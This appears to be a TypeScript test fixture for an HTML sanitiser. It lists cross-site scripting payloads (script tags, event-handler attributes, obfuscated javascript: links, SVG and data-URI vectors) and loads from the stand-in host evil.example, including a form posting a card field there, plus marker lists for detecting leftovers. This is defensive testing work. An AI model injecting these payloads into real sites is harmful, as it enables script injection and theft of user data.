/**
 * Hostile HTML for the sanitising tests: what an attacker (or a careless paste) might put in
 * the content store. Every piece runs `alert(` or loads from evil.example when it is not
 * sanitised, so a response or page that holds neither string carried none of it.
 */
export const HOSTILE_HTML = [
	'<script>alert("script")</script>',
	'<img src=x onerror=alert("img")>',
	'<IMG SRC="x" OnError="alert(\'mixed case\')">',
	'<a href="javascript:alert(\'link\')">plain link</a>',
	'<a href="&#106;avascript:alert(\'entity\')">entity link</a>',
	'<a href="jav&#x09;ascript:alert(\'tab\')">tab link</a>',
	'<a href=" JAVASCRIPT:alert(\'upper\')">upper link</a>',
	'<svg onload=alert("svg")><circle r="1"/></svg>',
	'<svg><script>alert("svg script")</script></svg>',
	'<iframe src="https://evil.example/frame"></iframe>',
	'<img src="data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+">',
	'<p style="background:url(javascript:alert(\'style\'))">styled</p>',
	'<form action="https://evil.example/post"><input name="card"><button formaction="javascript:alert(\'form\')">Send</button></form>',
	'<object data="https://evil.example/flash"></object><embed src="https://evil.example/embed">',
	'<math><mi xlink:href="javascript:alert(\'math\')">m</mi></math>',
	'<div onmouseover="alert(\'div\')">hover</div>',
	'<style>body{background:url("https://evil.example/css")}</style>',
].join('')

/** The strings none of which may reach a response or a page once HOSTILE_HTML is stored. */
export const HOSTILE_MARKERS = ['alert(', 'evil.example', 'javascript:', 'onerror', 'onload', 'onmouseover', '<script', '<iframe', '<svg', 'data:image']

/** The markers of HOSTILE_HTML that `text` holds (none, when it was sanitised). */
export const hostileMarkersIn = (text: string) => HOSTILE_MARKERS.filter((marker) => text.toLowerCase().includes(marker.toLowerCase()))

/**
 * The markers a whole page may not hold: the site has scripts, icons and forms of its own,
 * but never anything that alerts, loads from evil.example or handles events in attributes.
 */
const SCRIPT_MARKERS = ['alert(', 'evil.example', 'javascript:', 'onerror', 'onload', 'onmouseover']

/** The markers of HOSTILE_HTML that a rendered page holds (none, when its content was sanitised). */
export const scriptMarkersIn = (html: string) => SCRIPT_MARKERS.filter((marker) => html.toLowerCase().includes(marker))
